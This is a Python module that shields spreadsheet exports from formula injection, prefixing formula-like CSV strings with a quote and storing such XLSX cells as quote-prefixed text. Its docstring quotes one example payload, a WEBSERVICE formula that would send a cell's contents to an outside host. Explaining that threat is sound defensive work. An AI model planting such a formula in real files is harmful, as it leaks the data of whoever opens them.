"""Values written to spreadsheets as text, never as formulas (formula or CSV injection).

A record's title such as ``=WEBSERVICE("http://…"&A1)`` would run in the reader's Excel or
LibreOffice if an export wrote it as it is. Every XLSX and CSV the product produces passes its
values through this module:

- CSV (:func:`neutralise_formula`): a string that starts with ``=``, ``+``, ``-``, ``@``, a tab
  or a carriage return gets a single quote ``'`` in front, as OWASP recommends for CSV
  injection. A CSV cell has no type, so the quote is the only way to say "text"; spreadsheet
  programs show it, and it tells the reader the value was neutralised.
- XLSX (:func:`neutralise_formula_cell`, :func:`neutralise_workbook`): the cell is stored as a
  string (openpyxl's ``data_type`` ``"s"``; it types a string starting with ``=`` as a formula,
  ``"f"``) with Excel's *quote prefix* style, so the visible text stays exactly what was typed,
  no formula is ever stored, and editing the cell in Excel or LibreOffice keeps it text. No
  quote is added to the value.

Only strings are neutralised: numbers (a negative ``int``, ``float`` or ``Decimal`` is a
number, not text), dates, booleans and ``None`` pass unchanged. ``"-5%"`` typed in a text
field is a string and is neutralised. Plain Python, no Django.
"""

from __future__ import annotations

from typing import Any

#: The first characters that make a spreadsheet program read a cell as a formula (OWASP).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")

#: What a CSV value that looks like a formula is prefixed with.
CSV_TEXT_PREFIX = "'"


def looks_like_formula(value: Any) -> bool:
    """True for a string a spreadsheet program could read as a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_PREFIXES)


def neutralise_formula(value: Any) -> Any:
    """The value for a CSV cell: a formula-like string with ``'`` in front, anything else as
    it is (idempotent: a neutralised value starts with ``'``)."""
    if looks_like_formula(value):
        return CSV_TEXT_PREFIX + value
    return value


def neutralise_formula_cell(cell):
    """An openpyxl cell (ordinary or write-only) whose string value is stored as text: type
    ``"s"`` and the quote-prefix style when the value looks like a formula. Returns the cell."""
    if looks_like_formula(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def neutralise_workbook(workbook) -> None:
    """Every cell of every sheet of an openpyxl workbook (not write-only) through
    :func:`neutralise_formula_cell`: call it just before saving. The workbook then holds no
    formula at all; one that is ever wanted on purpose must be written after this call."""
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                neutralise_formula_cell(cell)
